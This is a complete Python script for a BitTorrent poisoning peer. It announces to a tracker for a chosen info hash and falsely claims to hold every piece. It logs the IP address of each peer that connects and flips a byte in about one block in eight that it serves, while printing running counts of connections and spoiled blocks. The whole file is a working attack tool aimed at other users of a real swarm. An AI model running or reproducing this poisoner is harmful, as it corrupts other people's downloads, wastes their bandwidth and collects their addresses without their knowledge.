#!/usr/bin/env python3
"""A BitTorrent peer that says it has everything and spoils one block in eight.

Prints a JSON line of counts each second: who connected, blocks sent, blocks spoilt.
"""

import json
import socket
import struct
import sys
import threading
import time
import urllib.parse
import urllib.request

LIE_EVERY = 8
BLOCK = 16 * 1024
CHOKE_NOT, INTERESTED, BITFIELD, REQUEST, PIECE = 1, 2, 5, 6, 7
ANNOUNCE_EVERY = 20


class Poisoner:
    def __init__(self, info_hash, film, piece_len, tracker, port):
        self.info_hash, self.film, self.piece_len = info_hash, film, piece_len
        self.tracker, self.port = tracker, port
        self.peer_id = b"-PZ0001-" + b"poisonpoison"
        self.counts = {"connections": 0, "addresses": [], "blocks": 0, "lies": 0}

    def run(self):
        listener = socket.create_server(("0.0.0.0", self.port), backlog=64)
        threading.Thread(target=self.accept, args=(listener,), daemon=True).start()
        threading.Thread(target=self.announce, daemon=True).start()
        while True:
            time.sleep(1)
            print(json.dumps(self.counts), flush=True)

    def announce(self):
        query = urllib.parse.urlencode({
            "info_hash": self.info_hash, "peer_id": self.peer_id, "port": self.port,
            "uploaded": 0, "downloaded": 0, "left": 0, "compact": 1,
        })
        while True:
            try:
                urllib.request.urlopen(f"{self.tracker}?{query}", timeout=5).read()
            except OSError as error:
                print(f"announce: {error}", file=sys.stderr)
            time.sleep(ANNOUNCE_EVERY)

    def accept(self, listener):
        while True:
            stream, addr = listener.accept()
            self.counts["connections"] += 1
            if addr[0] not in self.counts["addresses"]:
                self.counts["addresses"].append(addr[0])
            threading.Thread(target=self.serve, args=(stream,), daemon=True).start()

    def serve(self, stream):
        try:
            with stream, stream.makefile("rb") as lines:
                stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                if len(lines.read(68)) < 68:
                    return
                count = -(-len(self.film) // self.piece_len)
                field = bytearray(b"\xff" * -(-count // 8))
                field[-1] &= 0xFF << (-count % 8) & 0xFF
                hello = b"\x13BitTorrent protocol" + bytes(8) + self.info_hash + self.peer_id
                stream.sendall(hello + message(BITFIELD, bytes(field)))
                while len(head := lines.read(4)) == 4:
                    body = lines.read(struct.unpack(">I", head)[0])
                    if body[:1] == bytes([INTERESTED]):
                        stream.sendall(message(CHOKE_NOT, b""))
                    elif body[:1] == bytes([REQUEST]):
                        self.send(stream, *struct.unpack(">III", body[1:13]))
        except OSError:
            pass

    def send(self, stream, piece, begin, length):
        start = piece * self.piece_len + begin
        block = bytearray(self.film[start : start + length])
        if start // BLOCK % LIE_EVERY == LIE_EVERY // 2:
            block[len(block) // 2] ^= 0x55
            self.counts["lies"] += 1
        stream.sendall(message(PIECE, struct.pack(">II", piece, begin) + block))
        self.counts["blocks"] += 1


def message(kind, body):
    return struct.pack(">IB", 1 + len(body), kind) + body


def main():
    info_hash, film, piece_len, tracker, port = sys.argv[1:]
    with open(film, "rb") as file:
        data = file.read()
    Poisoner(bytes.fromhex(info_hash), data, int(piece_len), tracker, int(port)).run()


if __name__ == "__main__":
    main()
